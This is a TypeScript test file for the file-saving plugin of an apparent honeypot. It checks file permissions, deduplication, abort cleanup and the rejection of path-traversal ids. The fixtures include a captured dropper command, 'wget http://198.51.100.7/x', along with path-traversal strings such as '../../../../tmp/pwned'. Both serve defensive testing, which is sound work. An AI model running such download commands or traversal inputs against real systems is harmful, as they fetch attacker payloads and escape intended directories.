import { mkdtemp, readdir, readFile, rm, stat } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import pino from 'pino'
import { describe, expect, it, onTestFinished } from 'vitest'
import { createUlid } from '../../src/core/ids.js'
import { createSaveFilePlugin, SaveFileOptions } from '../../src/plugins/savers/save-file.js'
import { attackOf, createTestContext, runPlugin, sha256Hex, subjectOf } from '../helpers/plugin-harness.js'

async function tempDir(): Promise<string> {
  const dir = await mkdtemp(join(tmpdir(), 'ht-save-file-'))
  onTestFinished(() => rm(dir, { recursive: true, force: true }))
  return dir
}

function envOf(dataDir: string): { log: pino.Logger; dataDir: string } {
  return { log: pino({ level: 'silent' }), dataDir }
}

async function mode(path: string): Promise<number> {
  return (await stat(path)).mode & 0o777
}

const STARTED_MS = Date.UTC(2024, 4, 17, 9, 3, 27, 512)

describe('saveFile', () => {
  it('writes each kind to its own subdirectory under <dataDir>/saved, 0600 files in 0700 directories', async () => {
    const dataDir = await tempDir()
    const plugin = createSaveFilePlugin(SaveFileOptions.parse({}), envOf(dataDir))
    const id = createUlid(STARTED_MS)
    const attack = attackOf('GET /x HTTP/1.0\r\n\r\n', { id, startedAtMs: STARTED_MS })
    const decoded = Buffer.from('wget http://198.51.100.7/x')
    const sampleBytes = Buffer.from('\x7fELF...', 'latin1')
    for (const [data, kind] of [[attack.payload, 'attack'], [decoded, 'decoded'], [sampleBytes, 'sample']] as const) {
      const collected = await runPlugin(plugin, subjectOf(attack, data, kind))
      const path = join(dataDir, 'saved', kind, `2024-05-17T09-03-27.512Z_${id}_${sha256Hex(data).slice(0, 16)}.${kind}.bin`)
      expect(collected.artifacts).toEqual([{ kind: 'saved-file', info: { path, bytes: data.length, existed: false } }])
      expect(await readFile(path)).toEqual(data)
      expect(await mode(path)).toBe(0o600)
      expect(await mode(join(dataDir, 'saved', kind))).toBe(0o700)
    }
    expect(await mode(join(dataDir, 'saved'))).toBe(0o700)
  })

  it('treats the same subject saved twice as already saved, leaving one whole file and no temporary', async () => {
    const dataDir = await tempDir()
    const plugin = createSaveFilePlugin(SaveFileOptions.parse({}), envOf(dataDir))
    const subject = subjectOf(attackOf('payload', { id: createUlid(STARTED_MS), startedAtMs: STARTED_MS }))
    const first = await runPlugin(plugin, subject)
    const second = await runPlugin(plugin, subject)
    expect(second.artifacts[0]?.info).toEqual({ ...first.artifacts[0]?.info, existed: true })
    expect(await readdir(join(dataDir, 'saved', 'attack'))).toHaveLength(1)
  })

  it('keeps two attacks of the same second and the same bytes apart by their ids', async () => {
    const dir = join(await tempDir(), 'elsewhere')
    const plugin = createSaveFilePlugin(SaveFileOptions.parse({ dir }), envOf('/nonexistent'))
    const ids = [createUlid(STARTED_MS), createUlid(STARTED_MS)]
    await Promise.all(ids.map((id) => runPlugin(plugin, subjectOf(attackOf('same bytes', { id, startedAtMs: STARTED_MS })))))
    const names = (await readdir(join(dir, 'attack'))).sort()
    expect(names).toHaveLength(2)
    expect(names.map((n) => n.split('_')[1])).toEqual([...ids].sort())
  })

  it('refuses an attack id that is not a ULID instead of building a path from it', async () => {
    const dataDir = await tempDir()
    const plugin = createSaveFilePlugin(SaveFileOptions.parse({}), envOf(dataDir))
    for (const id of ['../../../../tmp/pwned', '01HX/../../x', '01hxzy3k4m5n6p7q8r9s0t1v2w', `${createUlid()}X`, 'I'.repeat(26)]) {
      await expect(runPlugin(plugin, subjectOf(attackOf('x', { id })))).rejects.toThrow(/not a ULID/)
    }
    expect(await readdir(dataDir)).toEqual([])
  })

  it('saves only the kinds it is told to', () => {
    const plugin = createSaveFilePlugin(SaveFileOptions.parse({ kinds: ['sample'] }), envOf('/nonexistent'))
    const attack = attackOf('x')
    expect(plugin.accepts!(subjectOf(attack))).toBe(false)
    expect(plugin.accepts!(subjectOf(attack, Buffer.from('y'), 'sample'))).toBe(true)
  })

  it('leaves neither the file nor a temporary behind when the write is aborted', async () => {
    const dataDir = await tempDir()
    const plugin = createSaveFilePlugin(SaveFileOptions.parse({}), envOf(dataDir))
    const { ctx, collected } = createTestContext()
    const aborted = { ...ctx, signal: AbortSignal.abort() }
    await expect(plugin.process(subjectOf(attackOf('x', { id: createUlid() })), aborted)).rejects.toThrow()
    expect(await readdir(join(dataDir, 'saved', 'attack'))).toEqual([])
    expect(collected.artifacts).toEqual([])
  })
})
